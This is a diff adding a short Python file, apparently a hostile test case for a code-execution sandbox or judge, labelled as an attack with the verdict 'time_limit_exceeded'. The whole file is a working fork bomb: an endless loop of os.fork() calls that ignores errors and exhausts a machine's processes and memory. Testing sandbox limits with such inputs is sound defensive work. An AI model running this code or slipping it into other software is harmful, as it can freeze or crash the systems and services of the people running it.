@@ -1,0 +1,9 @@
+# Attack: forks without end, whatever the refusals.
+# Verdict: time_limit_exceeded
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
